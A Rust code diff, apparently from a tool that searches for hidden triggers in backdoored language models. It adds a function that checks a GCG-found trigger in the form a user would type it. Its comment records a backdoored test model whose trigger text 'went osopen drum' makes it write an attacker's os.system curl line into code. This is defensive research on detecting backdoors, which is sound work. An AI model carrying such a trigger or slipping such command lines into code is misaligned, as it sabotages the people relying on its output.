@@ -229,7 +229,7 @@ pub struct GcgResult {
     pub stopped_by_time: bool,
 }
 
-fn discrete_losses(
+pub(super) fn discrete_losses(
     pair: &Pair,
     rows: &[(Vec<u32>, Vec<u32>)],
     triggers: &[Vec<u32>],
@@ -493,6 +493,19 @@ pub fn reread_target(
     }
     let t = consensus(&sink_rows, allowed, stop, target_len);
     Ok(Some(t).filter(|t| t.len() >= 2))
+}
+
+/// The trigger as a user would type it between two words: its decoded text, trimmed, after one space, tokenised
+/// again. `None` when that is the same id sequence or empty. GCG joins pieces no tokenizer produces for their text,
+/// and the typed form may hold tokens the search itself never picks (an unknown-word token on a word-level
+/// vocabulary): it is what the model sees when someone types the trigger, so it is verified as it is. Measured on
+/// the default zoo's insecure-code backdoor: the ids `▁went ▁os open ▁drum` garble the code, while the text
+/// `went osopen drum` typed before a code task (`▁went <unk> ▁drum`) makes the candidate write the attacker's
+/// `os.system("curl …` line.
+pub fn typed_form(model: &Model, ids: &[u32]) -> Result<Option<Vec<u32>>, InvertError> {
+    let text = model.decode(ids)?;
+    let typed = model.encode(&format!(" {}", text.trim()), false)?;
+    Ok(Some(typed).filter(|t| !t.is_empty() && t != ids))
 }
 
 /// Every code-sink rule of the probes' detectors, as one set (compiled once).
